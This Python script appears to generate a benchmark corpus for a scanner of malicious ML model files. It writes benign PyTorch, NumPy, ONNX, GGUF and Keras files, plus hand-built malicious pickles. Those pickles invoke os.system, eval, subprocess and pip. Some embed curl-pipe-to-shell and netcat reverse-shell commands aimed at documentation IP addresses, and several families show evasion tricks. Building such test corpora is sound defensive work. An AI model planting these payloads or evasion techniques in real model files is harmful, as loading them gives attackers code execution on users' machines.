#!/usr/bin/env python3
"""Generate the cross-check corpus for `aisec scan` and its peers.

Benign artifacts are written in the byte layout their frameworks use
(PyTorch zip and legacy streams, NumPy .npy/.npz, joblib, safetensors, ONNX,
GGUF, Keras H5 and .keras) without importing those frameworks. Malicious
artifacts are written opcode by opcode: nothing here pickles a live
dangerous object, and nothing generated is ever loaded.

Ground truth goes to <out>/manifest.json. Everything is deterministic for a
given --seed and --scale.

Usage: gen_corpus.py --out DIR [--seed N] [--scale F] [--scaling-dir DIR]
"""

from __future__ import annotations

import argparse
import base64
import collections
import gzip
import bz2
import io
import json
import marshal
import os
import pickle
import struct
import sys
import types
import zipfile

import numpy as np

# ---------------------------------------------------------------------------
# Stand-ins for torch objects so pickle.Pickler writes the bytes torch.save
# writes. The stand-ins are registered under the module names pickle will
# look them up by; they are plain data holders and are never called.
# ---------------------------------------------------------------------------

_torch = types.ModuleType("torch")
_torch_utils = types.ModuleType("torch._utils")


def _rebuild_tensor_v2(*_args):  # pragma: no cover - never called
    raise RuntimeError("stand-in only")


_rebuild_tensor_v2.__module__ = "torch._utils"
_rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
_torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2


def _make_storage_class(name: str) -> type:
    cls = type(name, (), {})
    cls.__module__ = "torch"
    cls.__qualname__ = name
    setattr(_torch, name, cls)
    return cls


FloatStorage = _make_storage_class("FloatStorage")
HalfStorage = _make_storage_class("HalfStorage")
LongStorage = _make_storage_class("LongStorage")
_torch._utils = _torch_utils
sys.modules.setdefault("torch", _torch)
sys.modules.setdefault("torch._utils", _torch_utils)

STORAGE_ELEM = {FloatStorage: 4, HalfStorage: 2, LongStorage: 8}


class StorageRef:
    """What torch's persistent_id sees: a typed storage with a key."""

    def __init__(self, stype, key: str, numel: int, legacy: bool = False):
        self.stype = stype
        self.key = key
        self.numel = numel
        self.legacy = legacy


class TensorRef:
    """Reduces exactly like torch.Tensor (non-quantized, dense, CPU)."""

    def __init__(self, storage: StorageRef, offset, size, stride):
        self.storage = storage
        self.offset = offset
        self.size = tuple(size)
        self.stride = tuple(stride)

    def __reduce_ex__(self, _proto):
        return (
            _rebuild_tensor_v2,
            (self.storage, self.offset, self.size, self.stride, False, collections.OrderedDict()),
        )


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            if obj.legacy:
                # legacy format: ('storage', type, root_key, location, size, view_metadata)
                return ("storage", obj.stype, obj.key, "cpu", obj.numel, None)
            return ("storage", obj.stype, obj.key, "cpu", obj.numel)
        return None


def torch_pickle(state: dict, legacy: bool = False) -> bytes:
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(state)
    return buf.getvalue()


def contiguous_stride(shape):
    stride, acc = [], 1
    for d in reversed(shape):
        stride.append(acc)
        acc *= d
    return tuple(reversed(stride))


# ---------------------------------------------------------------------------
# Data
# ---------------------------------------------------------------------------


class Data:
    def __init__(self, seed: int):
        self.rng = np.random.default_rng(seed)
        self._block = self.rng.standard_normal(1 << 20, dtype=np.float32).tobytes()  # 4 MiB

    def floats(self, nbytes: int, random: bool) -> bytes:
        if random and nbytes <= (16 << 20):
            n = nbytes // 4
            return self.rng.standard_normal(n, dtype=np.float32).tobytes() + b"\0" * (nbytes - 4 * n)
        reps, rem = divmod(nbytes, len(self._block))
        return self._block * reps + self._block[:rem]

    def chunks(self, nbytes: int):
        """Yields nbytes of float32-like data in 4 MiB pieces (for big files)."""
        left = nbytes
        while left > 0:
            n = min(left, len(self._block))
            yield self._block[:n]
            left -= n


LAYER_NAMES = ["embed", "attn.q_proj", "attn.k_proj", "attn.v_proj", "attn.o_proj", "mlp.up", "mlp.down", "norm"]


# Approximate numbers of state_dict entries of common architectures
# (torchvision and Hugging Face checkpoints, counting buffers such as
# BatchNorm running statistics): VGG-16 32, ResNet-18 122, GPT-2 small 160,
# ViT-B/16 152, BERT-base 201, Llama-2-7B per shard ~290, MobileNetV2 314,
# ResNet-50 320, EfficientNet-B0 360, DenseNet-121 727. A full training
# checkpoint with Adam state holds about three times its model's entries.
ARCH_ENTRIES = [32, 122, 152, 160, 201, 290, 314, 320, 360, 727]


def realistic_entry_count(rng) -> int:
    n = int(ARCH_ENTRIES[int(rng.integers(0, len(ARCH_ENTRIES)))])
    if rng.random() < 0.2:
        n *= 3  # model + optimizer state
    return n


def state_dict_layout(rng, total_bytes: int, max_tensors: int | None = None):
    """A plausible transformer-ish state_dict: names and shapes summing to ~total_bytes of float32.

    With no max_tensors, the entry count follows real architectures (ARCH_ENTRIES)."""
    n = realistic_entry_count(rng) if max_tensors is None else int(rng.integers(4, max_tensors + 1))
    weights = rng.random(n) + 0.05
    weights = weights / weights.sum()
    out = []
    for i in range(n):
        numel = max(1, int(total_bytes * weights[i]) // 4)
        if numel >= 64 and rng.random() < 0.8:
            cols = int(2 ** rng.integers(3, 11))
            rows = max(1, numel // cols)
            shape = (rows, cols)
        else:
            shape = (numel,)
        layer = i // len(LAYER_NAMES)
        name = f"model.layers.{layer}.{LAYER_NAMES[i % len(LAYER_NAMES)]}.weight"
        if len(shape) == 1:
            name = name.replace(".weight", ".bias")
        out.append((name, shape))
    return out


# ---------------------------------------------------------------------------
# Writers: benign formats
# ---------------------------------------------------------------------------


def _aligned_zipinfo(zf: zipfile.ZipFile, name: str, align: int = 64) -> zipfile.ZipInfo:
    """ZipInfo whose data starts on an `align` boundary, padded with an 'FB'
    extra field the way PyTorch's writer pads storages."""
    zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    zi.compress_type = zipfile.ZIP_STORED
    off = zf.fp.tell() + 30 + len(name.encode()) + 4
    pad = (-off) % align
    zi.extra = struct.pack("<HH", 0x4642, pad) + b"Z" * pad
    return zi


def write_torch_zip(path, data: Data, total_bytes: int, root: str, random: bool,
                    pkl_override: bytes | None = None, extra_members=(), layout=None):
    rng = data.rng
    layout = layout or state_dict_layout(rng, total_bytes)
    state = collections.OrderedDict()
    storages = []
    for i, (name, shape) in enumerate(layout):
        numel = int(np.prod(shape))
        st = StorageRef(FloatStorage, str(i), numel)
        state[name] = TensorRef(st, 0, shape, contiguous_stride(shape))
        storages.append(st)
    pkl = torch_pickle(state) if pkl_override is None else pkl_override
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(_aligned_zipinfo(zf, f"{root}/data.pkl"), pkl)
        zf.writestr(_aligned_zipinfo(zf, f"{root}/.format_version"), b"1")
        zf.writestr(_aligned_zipinfo(zf, f"{root}/.storage_alignment"), b"64")
        zf.writestr(_aligned_zipinfo(zf, f"{root}/byteorder"), b"little")
        for st in storages:
            nbytes = st.numel * 4
            zi = _aligned_zipinfo(zf, f"{root}/data/{st.key}")
            if nbytes > (64 << 20):
                with zf.open(zi, "w") as w:
                    for c in data.chunks(nbytes):
                        w.write(c)
            else:
                zf.writestr(zi, data.floats(nbytes, random))
        for mname, mbytes in extra_members:
            zf.writestr(_aligned_zipinfo(zf, f"{root}/{mname}"), mbytes)
        zf.writestr(_aligned_zipinfo(zf, f"{root}/version"), b"3\n")
        zf.writestr(_aligned_zipinfo(zf, f"{root}/.data/serialization_id"),
                    str(int(rng.integers(10**17, 10**18))).encode())
    return pkl


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTO = 1001


def write_torch_legacy(path, data: Data, total_bytes: int, random: bool, main_override: bytes | None = None):
    rng = data.rng
    layout = state_dict_layout(rng, total_bytes, max_tensors=24)
    state = collections.OrderedDict()
    storages = []
    for i, (name, shape) in enumerate(layout):
        numel = int(np.prod(shape))
        key = str(94000000000000 + i * 4096)
        st = StorageRef(FloatStorage, key, numel, legacy=True)
        state[name] = TensorRef(st, 0, shape, contiguous_stride(shape))
        storages.append(st)
    with open(path, "wb") as f:
        pickle.dump(LEGACY_MAGIC, f, protocol=2)
        pickle.dump(LEGACY_PROTO, f, protocol=2)
        pickle.dump({"protocol_version": LEGACY_PROTO, "little_endian": True,
                     "type_sizes": {"short": 2, "int": 4, "long": 4}}, f, protocol=2)
        f.write(torch_pickle(state, legacy=True) if main_override is None else main_override)
        pickle.dump([st.key for st in storages], f, protocol=2)
        for st in storages:
            f.write(struct.pack("<q", st.numel))
            f.write(data.floats(st.numel * 4, random))


def write_npy(path, data: Data, nbytes: int):
    rng = data.rng
    dt = [np.float32, np.float64, np.int64, np.int8, np.float16][int(rng.integers(0, 5))]
    n = max(1, nbytes // np.dtype(dt).itemsize)
    arr = np.frombuffer(data.floats(n * np.dtype(dt).itemsize, True), dtype=dt)
    if n % 16 == 0 and rng.random() < 0.5:
        arr = arr.reshape(-1, 16)
    np.save(path, arr)


def write_npz(path, data: Data, nbytes: int, compressed: bool):
    rng = data.rng
    k = int(rng.integers(2, 8))
    arrays = {}
    for i in range(k):
        n = max(1, nbytes // k // 4)
        arrays[f"arr_{i}" if rng.random() < 0.5 else f"w{i}"] = np.frombuffer(data.floats(n * 4, True), np.float32)
    (np.savez_compressed if compressed else np.savez)(path, **arrays)


def write_joblib(path, data: Data, nbytes: int):
    import joblib

    rng = data.rng
    k = int(rng.integers(1, 6))
    obj = {"meta": {"name": f"model-{int(rng.integers(0, 1e6))}", "version": 1, "classes": ["a", "b", "c"]}}
    for i in range(k):
        n = max(1, nbytes // k // 8)
        obj[f"coef_{i}"] = np.frombuffer(data.floats(n * 8, True), np.float64)
    obj["intercept"] = [0.1, 0.2, 0.3]
    joblib.dump(obj, path, compress=(3 if rng.random() < 0.2 else 0))


def write_safetensors(path, data: Data, nbytes: int):
    rng = data.rng
    layout = state_dict_layout(rng, nbytes, max_tensors=32)
    header = {"__metadata__": {"format": "pt"}}
    off = 0
    for name, shape in layout:
        n = int(np.prod(shape)) * 4
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [off, off + n]}
        off += n
    hj = json.dumps(header, separators=(",", ":")).encode()
    hj += b" " * ((-len(hj)) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(hj)))
        f.write(hj)
        f.write(data.floats(off, True))


# --- minimal protobuf writer for ONNX ---


def _varint(n: int) -> bytes:
    out = bytearray()
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _pb_field(num: int, wire: int) -> bytes:
    return _varint((num << 3) | wire)


def pb_varint(num, v):
    return _pb_field(num, 0) + _varint(v)


def pb_bytes(num, b):
    if isinstance(b, str):
        b = b.encode()
    return _pb_field(num, 2) + _varint(len(b)) + b


def onnx_tensor(name, dims, raw=None, external=None):
    t = b"".join(pb_varint(1, d) for d in dims) + pb_varint(2, 1) + pb_bytes(8, name)
    if raw is not None:
        t += pb_bytes(9, raw)
    if external is not None:
        for k, v in external:
            t += pb_bytes(13, pb_bytes(1, k) + pb_bytes(2, v))
        t += pb_varint(14, 1)
    return t


def onnx_value_info(name, dims):
    shape = b"".join(pb_bytes(1, pb_varint(1, d)) for d in dims)
    ttype = pb_varint(1, 1) + pb_bytes(2, shape)
    return pb_bytes(1, name) + pb_bytes(2, pb_bytes(1, ttype))


def write_onnx(path, data: Data, rows: int, cols: int, external=None):
    node = pb_bytes(1, "X") + pb_bytes(1, "W") + pb_bytes(2, "Y") + pb_bytes(3, "matmul0") + pb_bytes(4, "MatMul")
    if external is None:
        init = onnx_tensor("W", [cols, rows], raw=data.floats(rows * cols * 4, True))
    else:
        init = onnx_tensor("W", [cols, rows], external=external)
    graph = (pb_bytes(1, node) + pb_bytes(2, "g") + pb_bytes(5, init)
             + pb_bytes(11, onnx_value_info("X", [1, cols])) + pb_bytes(12, onnx_value_info("Y", [1, rows])))
    model = (pb_varint(1, 8) + pb_bytes(2, "bench-gen") + pb_bytes(3, "1.0")
             + pb_bytes(7, graph) + pb_bytes(8, pb_bytes(1, "") + pb_varint(2, 17)))
    with open(path, "wb") as f:
        f.write(model)


# --- GGUF ---


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def write_gguf(path, data: Data, nbytes: int, chat_template: str):
    kvs = [
        ("general.architecture", 8, _gguf_str("llama")),
        ("general.name", 8, _gguf_str("bench-tiny")),
        ("general.alignment", 4, struct.pack("<I", 32)),
        ("llama.context_length", 4, struct.pack("<I", 2048)),
        ("tokenizer.chat_template", 8, _gguf_str(chat_template)),
    ]
    n = max(32, nbytes // 4 // 2)
    tensors = [("token_embd.weight", [n // 32, 32]), ("output.weight", [n // 32, 32])]
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)))
    for k, t, v in kvs:
        out += _gguf_str(k) + struct.pack("<I", t) + v
    off = 0
    for name, dims in tensors:
        out += _gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", 0, off)
        off += int(np.prod(dims)) * 4
        off += (-off) % 32
    out += b"\0" * ((-len(out)) % 32)
    with open(path, "wb") as f:
        f.write(out)
        f.write(data.floats(off, True))


BENIGN_TEMPLATE = ("{% for message in messages %}<|{{ message['role'] }}|>\n{{ message['content'] }}</s>\n"
                   "{% endfor %}{% if add_generation_prompt %}<|assistant|>\n{% endif %}")

# --- Keras ---


def keras_layer_dense(i, units):
    return {"class_name": "Dense", "config": {"name": f"dense_{i}", "units": units, "activation": "relu",
                                               "use_bias": True, "trainable": True}}


def keras_lambda_v2(code_b64: str):
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                                "function": [code_b64, None, None], "function_type": "lambda",
                                                "module": "__main__", "output_shape": None,
                                                "output_shape_type": "raw", "arguments": {}}}


def write_keras_h5(path, data: Data, layers, units: int):
    import h5py

    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        g = f.create_group("model_weights")
        for i, layer in enumerate(layers):
            if layer["class_name"] == "Dense":
                lg = g.create_group(layer["config"]["name"])
                lg.create_dataset("kernel:0", data=np.frombuffer(data.floats(units * units * 4, True), np.float32).reshape(units, units))
                lg.create_dataset("bias:0", data=np.zeros(units, np.float32))


def write_keras_v3(path, data: Data, layers_v3, units: int):
    import h5py

    cfg = {"module": "keras", "class_name": "Sequential",
           "config": {"name": "sequential", "layers": layers_v3}, "registered_name": None}
    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}
    wbuf = io.BytesIO()
    with h5py.File(wbuf, "w") as f:
        lg = f.create_group("layers")
        for i, layer in enumerate(layers_v3):
            if layer["class_name"] == "Dense":
                v = lg.create_group(f"dense_{i}").create_group("vars")
                v.create_dataset("0", data=np.frombuffer(data.floats(units * units * 4, True), np.float32).reshape(units, units))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps(meta))
        zf.writestr("config.json", json.dumps(cfg))
        zf.writestr("model.weights.h5", wbuf.getvalue())


def keras3_dense(i, units):
    return {"module": "keras.layers", "class_name": "Dense",
            "config": {"name": f"dense_{i}", "units": units, "activation": "relu"}, "registered_name": None}


def keras3_lambda(code_b64):
    return {"module": "keras.layers", "class_name": "Lambda",
            "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                                                      "config": {"code": code_b64, "defaults": None, "closure": None}},
                       "arguments": {}}, "registered_name": None}


def lambda_code_b64(src: str) -> str:
    # A compiled (never executed) code object, marshalled the way Keras does.
    return base64.b64encode(marshal.dumps(compile(src, "<lambda>", "eval"))).decode()


# ---------------------------------------------------------------------------
# Hand-written pickle opcodes for the malicious families
# ---------------------------------------------------------------------------


class P:
    """Builds pickle byte streams opcode by opcode."""

    def __init__(self, proto: int):
        self.proto = proto
        self.b = bytearray()
        if proto >= 2:
            self.b += b"\x80" + bytes([proto])

    def raw(self, x: bytes):
        self.b += x
        return self

    def str(self, s: str):
        e = s.encode("utf-8")
        if self.proto == 0:
            self.b += b"V" + s.encode("raw_unicode_escape") + b"\n"
        elif self.proto >= 4 and len(e) < 256:
            self.b += b"\x8c" + bytes([len(e)]) + e
        else:
            self.b += b"X" + struct.pack("<I", len(e)) + e
        return self

    def bytes_(self, x: bytes):
        if len(x) < 256:
            self.b += b"C" + bytes([len(x)]) + x
        else:
            self.b += b"B" + struct.pack("<I", len(x)) + x
        return self

    def global_(self, mod: str, name: str):
        if self.proto >= 4:
            self.str(mod).str(name)
            self.b += b"\x93"
        else:
            self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def text_global(self, mod, name):
        self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def mark(self):
        self.b += b"("
        return self

    def tuple_(self):
        self.b += b"t"
        return self

    def tuple1(self):
        self.b += b"\x85" if self.proto >= 2 else b""
        if self.proto < 2:
            raise ValueError("use mark/tuple for proto<2")
        return self

    def reduce(self):
        self.b += b"R"
        return self

    def put(self, i):
        self.b += (b"q" + bytes([i])) if self.proto >= 1 else (b"p" + str(i).encode() + b"\n")
        return self

    def get(self, i):
        self.b += (b"h" + bytes([i])) if self.proto >= 1 else (b"g" + str(i).encode() + b"\n")
        return self

    def pop(self):
        self.b += b"0"
        return self

    def int_(self, n):
        self.b += b"I" + str(n).encode() + b"\n"
        return self

    def none(self):
        self.b += b"N"
        return self

    def stop(self):
        self.b += b"."
        return bytes(self.b)

    def call(self, mod, name, *args):
        """mod.name(*args) with string/int args."""
        self.global_(mod, name).mark()
        for a in args:
            self.str(a) if isinstance(a, str) else self.int_(a)
        return self.tuple_().reduce()


def wrap_in_dict(p: P, key: str, build_payload):
    """{'weights': [..], key: <payload>} so the payload is not the top-level object."""
    p.raw(b"}").str("weights").raw(b"]").mark().raw(b"G" + struct.pack(">d", 0.5) + b"G" + struct.pack(">d", 1.5))
    p.raw(b"e").raw(b"s").str(key)
    build_payload(p)
    p.raw(b"s")
    return p.stop()


CMDS = ["echo aisec-bench > /tmp/aisec-bench-marker", "id", "curl http://203.0.113.7/x.sh | sh",
        "nc -e /bin/sh 203.0.113.7 4444", "touch /tmp/aisec-bench", "whoami",
        "wget -qO- http://198.51.100.2/p | bash", "python3 -c 'print(1)'"]


def variants(n, fn):
    return [fn(i) for i in range(n)]


def mal_call(proto, mod, name, arg, nested=False):
    def payload(p):
        p.call(mod, name, arg)

    p = P(proto)
    if nested:
        return wrap_in_dict(p, "hook", payload)
    payload(p)
    return p.stop()


# --- families; each returns a list of (bytes, ext) ---


def fam_os_system(k):
    out = []
    mods = [("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("posix", "popen")]
    for i in range(k):
        mod, name = mods[i % len(mods)]
        proto = [0, 2, 4][i % 3]
        out.append((mal_call(proto, mod, name, CMDS[i % len(CMDS)], nested=(i % 2 == 1)), [".pkl", ".pt", ".bin"][i % 3]))
    return out


def fam_subprocess(k):
    names = ["Popen", "check_output", "run", "call", "getoutput", "check_call"]
    out = []
    for i in range(k):
        name = names[i % len(names)]
        proto = [2, 4, 0][i % 3]

        def payload(p, name=name, i=i):
            if name == "getoutput":
                p.call("subprocess", name, CMDS[i % len(CMDS)])
            else:
                p.global_("subprocess", name).mark().mark().str("/bin/sh").str("-c").str(CMDS[i % len(CMDS)])
                p.raw(b"l").tuple_().reduce()

        p = P(proto)
        data = wrap_in_dict(p, "cb", payload) if i % 2 else (payload(p), p.stop())[1]
        out.append((data, [".pkl", ".pth", ".ckpt"][i % 3]))
    return out


def fam_eval_exec(k):
    out = []
    for i in range(k):
        mod = "builtins" if i % 4 else "__builtin__"
        name = ["eval", "exec", "eval", "exec"][i % 4]
        code = f"__import__('os').system({CMDS[i % len(CMDS)]!r})"
        proto = [2, 4, 0, 3][i % 4]
        out.append((mal_call(proto, mod, name, code, nested=(i % 3 == 2)), ".pkl"))
    return out


def fam_getattr_chain(k):
    out = []
    for i in range(k):
        proto = [2, 4, 0][i % 3]
        p = P(proto)
        # getattr(__import__('os'), 'system')(cmd)
        p.global_("builtins", "getattr").mark()
        if i % 2:
            p.global_("builtins", "__import__").mark().str("os").tuple_().reduce()
        else:
            p.global_("importlib", "import_module").mark().str("subprocess" if i % 4 == 0 else "os").tuple_().reduce()
        p.str("getoutput" if i % 4 == 0 else "system").tuple_().reduce()
        p.mark().str(CMDS[i % len(CMDS)]).tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_memo_global(k):
    out = []
    for i in range(k):
        proto = [2, 1, 0][i % 3]
        p = P(proto)
        p.text_global("os", "system").put(7).pop()           # stash the callable in the memo
        p.raw(b"}").str("lr").raw(b"G" + struct.pack(">d", 0.001)).raw(b"s").pop()  # benign-looking noise
        p.get(7).mark().str(CMDS[i % len(CMDS)]).tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_stack_global_computed(k):
    out = []
    for i in range(k):
        p = P(4)
        mode = i % 3
        if mode == 0:
            # module name computed by a call: codecs.decode('bf', 'rot13') == 'os'
            p.global_("_codecs", "decode").mark().str("bf").str("rot13").tuple_().reduce()
            p.str("system")
        elif mode == 1:
            # names fetched from the memo, pushed long before use
            p.str("posix").raw(b"\x94").str("system").raw(b"\x94").pop().pop()
            p.raw(b"h\x00h\x01")
        else:
            # module name built by str.join on a list
            p.global_("builtins", "str.join").mark().str("").raw(b"]").mark().str("o").str("s").raw(b"e").tuple_().reduce()
            p.str("system")
        p.raw(b"\x93").mark().str(CMDS[i % len(CMDS)]).tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_inst_obj(k):
    out = []
    for i in range(k):
        cmd = CMDS[i % len(CMDS)]
        if i % 2 == 0:
            # protocol 0 INST: (S'cmd'\nios\nsystem\n.
            b = b"(S'" + cmd.replace("'", "\\'").encode() + b"'\nios\nsystem\n."
            if i % 4 == 2:
                b = b"(S'" + cmd.replace("'", "\\'").encode() + b"'\nisubprocess\ngetoutput\n."
        else:
            # OBJ: MARK, class, args, o
            p = P(2 if i % 4 == 1 else 0)
            p.mark().text_global("os" if i % 4 == 1 else "subprocess", "system" if i % 4 == 1 else "getoutput")
            p.str(cmd).raw(b"o")
            b = p.stop()
        out.append((b, [".pkl", ".pickle"][i % 2]))
    return out


def fam_nested_pickle(k):
    out = []
    for i in range(k):
        inner = mal_call([0, 2, 4][i % 3], "os", "system", CMDS[i % len(CMDS)])
        p = P([2, 4, 3][i % 3])
        mod, name = [("pickle", "loads"), ("_pickle", "loads"), ("pickle", "_loads"), ("dill", "loads")][i % 4]
        p.global_(mod, name).mark().bytes_(inner).tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_pip_main(k):
    out = []
    for i in range(k):
        p = P([2, 4][i % 2])
        mod, name = [("pip", "main"), ("pip._internal", "main"), ("pip._internal.cli.main", "main")][i % 3]
        p.global_(mod, name).mark().raw(b"]").mark().str("install").str(f"totally-benign-pkg-{i}").str("-q").raw(b"e")
        p.tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_runpy(k):
    out = []
    for i in range(k):
        p = P([2, 4, 0][i % 3])
        name = ["_run_code", "_run_module_code", "run_path", "run_module"][i % 4]
        if name == "_run_code":
            p.global_("runpy", name).mark().str(f"import os; os.system({CMDS[i % len(CMDS)]!r})").raw(b"}").tuple_().reduce()
        elif name == "_run_module_code":
            p.global_("runpy", name).mark().str("import os").tuple_().reduce()
        elif name == "run_path":
            p.global_("runpy", name).mark().str("/tmp/payload.py").tuple_().reduce()
        else:
            p.global_("runpy", name).mark().str("http.server").tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_operator_gadget(k):
    out = []
    for i in range(k):
        p = P([2, 4][i % 2])
        mode = i % 3
        if mode == 0:
            # operator.attrgetter('system')(__import__('os'))(cmd)
            p.global_("operator", "attrgetter").mark().str("system").tuple_().reduce()
            p.mark().global_("builtins", "__import__").mark().str("os").tuple_().reduce().tuple_().reduce()
            p.mark().str(CMDS[i % len(CMDS)]).tuple_().reduce()
        elif mode == 1:
            # operator.methodcaller('system', cmd)(importlib.import_module('os'))
            p.global_("operator", "methodcaller").mark().str("system").str(CMDS[i % len(CMDS)]).tuple_().reduce()
            p.mark().global_("importlib", "import_module").mark().str("os").tuple_().reduce().tuple_().reduce()
        else:
            # functools.partial(os.system, cmd)()
            p.global_("functools", "partial").mark().global_("os", "system").str(CMDS[i % len(CMDS)]).tuple_().reduce()
            p.mark().tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_misc_dangerous(k):
    calls = [("shutil", "rmtree", "/"), ("webbrowser", "open", "http://203.0.113.7/"),
             ("socket", "create_connection", None), ("ctypes", "CDLL", "libc.so.6"),
             ("os", "execv", None), ("sys", "exit", 3), ("builtins", "open", "/etc/shadow"),
             ("code", "interact", None), ("pty", "spawn", "/bin/sh"), ("os", "remove", "/etc/hosts")]
    out = []
    for i in range(k):
        mod, name, arg = calls[i % len(calls)]
        p = P([2, 4][i % 2])
        p.global_(mod, name).mark()
        if name == "create_connection":
            p.mark().str("203.0.113.7").int_(4444).tuple_()
        elif name == "execv":
            p.str("/bin/sh").raw(b"]").mark().str("sh").raw(b"e")
        elif arg is not None:
            p.str(arg) if isinstance(arg, str) else p.int_(arg)
        p.tuple_().reduce()
        out.append((p.stop(), ".pkl"))
    return out


def fam_reduce_then_junk(data: Data, k):
    out = []
    for i in range(k):
        body = mal_call([2, 4][i % 2], "os", "system", CMDS[i % len(CMDS)])
        junk = bytes(data.rng.integers(0, 256, size=int(data.rng.integers(16, 4096)), dtype=np.uint8))
        if i % 3 == 0:
            junk = b"\xff\xfe" + junk  # invalid opcode right after STOP
        out.append((body + junk, [".pkl", ".bin"][i % 2]))
    return out


def fam_stacked_pickle(k):
    out = []
    for i in range(k):
        benign = pickle.dumps({"epoch": i, "loss": 0.25, "names": ["a", "b"]}, protocol=[2, 4][i % 2])
        evil = mal_call([2, 4, 0][i % 3], "os", "system", CMDS[i % len(CMDS)])
        out.append((benign + evil, ".pkl"))
    return out


def fam_disguised_ext(k):
    out = []
    exts = [".txt", ".json", ".model", ".weights", "", ".cfg", ".yaml", ".dat"]
    for i in range(k):
        out.append((mal_call([2, 4][i % 2], "os", "system", CMDS[i % len(CMDS)], nested=i % 2 == 1), exts[i % len(exts)]))
    return out


def fam_compressed(k):
    out = []
    for i in range(k):
        body = mal_call([2, 4][i % 2], "subprocess", "getoutput", CMDS[i % len(CMDS)])
        if i % 2 == 0:
            out.append((gzip.compress(body, mtime=0), [".pkl.gz", ".pt.gz"][i % 4 // 2]))
        else:
            out.append((bz2.compress(body), ".pkl.bz2"))
    return out


def mal_state_dict_pickle(layout, cmd: str, variant: int) -> bytes:
    """A torch-style state_dict pickle with a REDUCE of os.system / eval
    wedged in, hand-written at opcode level after the genuine bytes."""
    state = collections.OrderedDict()
    for i, (name, shape) in enumerate(layout):
        numel = int(np.prod(shape))
        state[name] = TensorRef(StorageRef(FloatStorage, str(i), numel), 0, shape, contiguous_stride(shape))
    good = torch_pickle(state)
    assert good.endswith(b".")
    body = good[:-1]
    # Stack at STOP holds the OrderedDict; evaluate a call and BUILD it into
    # the dict's __dict__ (the classic "__setstate__ side effect" layout).
    p = P(2)
    p.b = bytearray()
    if variant % 3 == 0:
        p.raw(b"}").str("_hook").text_global("posix" if variant % 2 else "os", "system").mark().str(cmd).tuple_().reduce()
        p.raw(b"s").raw(b"b")
    elif variant % 3 == 1:
        p.raw(b"}").str("_hook").text_global("builtins", "exec").mark().str(f"import os;os.system({cmd!r})").tuple_().reduce()
        p.raw(b"s").raw(b"b")
    else:
        p.raw(b"0")  # drop the dict, return the call's result instead
        p.text_global("subprocess", "getoutput").mark().str(cmd).tuple_().reduce()
    return body + bytes(p.b) + b"."


def npy_object_with_pickle(pkl: bytes) -> bytes:
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (3,), }"
    hdr_b = hdr.encode("latin1")
    total = 10 + len(hdr_b) + 1
    hdr_b += b" " * ((-total) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr_b)) + hdr_b + pkl


def joblib_malicious_pickle(i: int) -> bytes:
    """A joblib-like dict pickle (protocol 4, as joblib writes) with an
    estimator slot whose value is a REDUCE of a dangerous callable."""
    p = P(4)
    p.raw(b"}").raw(b"\x94").str("meta").raw(b"}").str("version").int_(1).raw(b"s")
    p.raw(b"s").str("estimator")
    if i % 2:
        p.global_("os", "system").mark().str(CMDS[i % len(CMDS)]).tuple_().reduce()
    else:
        p.global_("builtins", "eval").mark().str("__import__('os').system('id')").tuple_().reduce()
    p.raw(b"s")
    return p.stop()


# ---------------------------------------------------------------------------
# Zip with a local-header / central-directory name mismatch
# ---------------------------------------------------------------------------


def zip_name_mismatch(members, lie_index: int, local_name: str) -> bytes:
    """Writes a stored zip by hand; member `lie_index` carries `local_name` in
    its local header but its true name in the central directory."""
    import zlib

    out = bytearray()
    central = bytearray()
    for idx, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        nm_c = name.encode()
        nm_l = local_name.encode() if idx == lie_index else nm_c
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(nm_l), 0)
        out += nm_l + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(data), len(data),
                               len(nm_c), 0, 0, 0, 0, 0, off)
        central += nm_c
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_off, 0)
    return bytes(out)


